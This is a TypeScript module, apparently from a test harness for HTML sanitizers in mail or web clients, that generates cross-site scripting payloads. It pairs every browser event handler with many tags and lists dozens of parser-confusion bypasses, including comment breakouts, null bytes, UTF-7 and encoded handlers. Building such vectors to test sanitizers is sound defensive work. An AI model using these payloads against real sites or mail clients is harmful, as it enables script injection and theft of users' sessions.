import type { Attempt } from './vector.ts'

/** Tags that carry a handler: such as mails hold, such as parsers treat in their own way, and one that nobody knows. */
const CARRIERS: [tag: string, more: string][] = [
  ['div', 'data-quote=quote'],
  ['a', 'href="https://kunde.example"'],
  ['img', 'src=x'],
  ['table', 'border=1'],
  ['video', 'src=x'],
  ['input', 'autofocus'],
  ['svg', ''],
  ['x-mail', 'tabindex=0'],
]

/** Names that browsers know beyond what elements list as properties. */
const BESIDES = [
  'onfocusin',
  'onfocusout',
  'onbegin',
  'onend',
  'onrepeat',
  'onunload',
  'onsearch',
  'ontouchstart',
  'onwebkitfullscreenchange',
  'onbeforescriptexecute',
  'onafterscriptexecute',
  'onwheel',
  'onzoom',
  'onactivate',
  'onbounce',
  'onstart',
  'onfinish',
]

/** Every handler on every carrier. `names`: what the running browser knows. */
export function handlerAttempts(names: readonly string[]): Attempt[] {
  const all = [...new Set([...names, ...BESIDES])]
  return all.flatMap((name) =>
    CARRIERS.map(([tag, more]) => ({
      family: 'handler',
      html: (js: string) => `<${tag} ${more} ${name}="${js}">x</${tag}>`,
    })),
  )
}

/** As text for the browser: all `on…` names of everything it has. */
export const NAMES_IN_BROWSER = `[...new Set(Object.getOwnPropertyNames(window)
  .map((name) => { try { return window[name]?.prototype } catch { return undefined } })
  .filter((proto) => proto && (proto === EventTarget.prototype || proto instanceof EventTarget))
  .flatMap((proto) => Object.getOwnPropertyNames(proto))
  .concat(Object.getOwnPropertyNames(window))
  .filter((name) => /^on[a-z]+$/.test(name)))].sort()`

const SEPARATORS = [
  ' ',
  '\t',
  '\n',
  '\f',
  '\r',
  '/',
  '//',
  ' / ',
  '\n\n',
  '\u00a0',
  '\u000b',
  '\u0000',
  '/x=y/',
  '"" ',
  "'' ",
  '=x ',
]
const EQUALS = ['=', ' = ', '\n=\n', '\t=', '=\f']
const QUOTES = ['"', "'", '', '`']

/** Ways of writing a tag that tokenisers disagree about. */
export const syntaxAttempts: Attempt[] = [
  ...SEPARATORS.flatMap((between) =>
    ['img src=x', 'svg', 'video src=x', 'body'].map((tag) => ({
      family: 'syntax',
      html: (js: string) => `<${tag}${between}onerror=${js}${between}onload=${js}>`,
    })),
  ),
  ...EQUALS.flatMap((equals) =>
    QUOTES.map((quote) => ({
      family: 'syntax',
      html: (js: string) => `<img src=x onerror${equals}${quote}${js}${quote}>`,
    })),
  ),
  ...[
    (js: string) => `<img src="x" onerror="${js}"`,
    (js: string) => `<<img src=x onerror=${js}>`,
    (js: string) => `<img src=x ONERROR=${js} onerror=1>`,
    (js: string) => `<img src=x x="<p title='" onerror=${js} y="'>">`,
    (js: string) => `<img """><img src=x onerror=${js}>">`,
    (js: string) => `<p title="</p><img src=x onerror=${js}>">`,
    (js: string) => `<a title="x" href="#"><img src='x' alt='"><img src=x onerror=${js}>'></a>`,
    (js: string) => `<img src=x onerror=&#114;&#97;&#110;${js.slice(3)}>`,
    (js: string) => `<img src=x onerror=&#x72an${js.slice(3)}>`,
    (js: string) => `<img src=x onerror="\\u0072an${js.slice(3)}">`,
    (js: string) => `<img/src=x/onerror=${js}//`,
    (js: string) => `<!--><img src=x onerror=${js}>-->`,
    (js: string) => `<!---><img src=x onerror=${js}>-->`,
    (js: string) => `<!-- --!><img src=x onerror=${js}>-->`,
    (js: string) => `<!-- <!-- --><img src=x onerror=${js}>-->`,
    (js: string) => `<! foo="><img src=x onerror=${js}>">`,
    (js: string) => `<? foo="><img src=x onerror=${js}>">`,
    (js: string) => `<?xml version="1.0"?><img src=x onerror=${js}>`,
    (js: string) => `</ foo="><img src=x onerror=${js}>">`,
    (js: string) => `<![CDATA[><img src=x onerror=${js}>]]>`,
    (js: string) => `<!doctype html><img src=x onerror=${js}>`,
    (js: string) => `<% foo><img src=x onerror=${js}>%>`,
    (js: string) => `<img src=x\u0000 onerror=${js}>`,
    (js: string) => `<im\u0000g src=x onerror=${js}><img src=x on\u0000error=${js}>`,
    (js: string) => `<a b=\`><img src=x onerror=${js}>\`>`,
    (js: string) => `<scr<script>ipt>${js}</scr</script>ipt>`,
    (js: string) => `<scr<b></b>ipt>${js}</script>`,
    (js: string) => `<<script>script>${js}</script>`,
    (js: string) => `<img src=x title='&quot;&gt;&lt;img src=x onerror=${js}&gt;' alt="&#39; onerror=${js} x='">`,
    (js: string) => `&lt;img src=x onerror=${js}&gt;&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
    (js: string) => `+ADw-img src=x onerror=${js}+AD4-`,
    (js: string) => `\u00bcscript\u00be${js}\u00bc/script\u00be<img src=x onerror=${js}>`,
    (js: string) => `\uff1cimg src=x onerror=${js}\uff1e<svg/onload=${js}>`,
    (js: string) => `<img src=x onerror="window['r'+'an']${js.slice(3)}">`,
    (js: string) => `<img src=x onerror="[${js.slice(4, -1)}].map(ran)">`,
    (js: string) => `<img src=x onerror="setTimeout('${js}')">`,
    (js: string) => `<img src=x onerror="import('data:text/javascript,${js}')">`,
  ].map((html) => ({ family: 'syntax', html })),
]
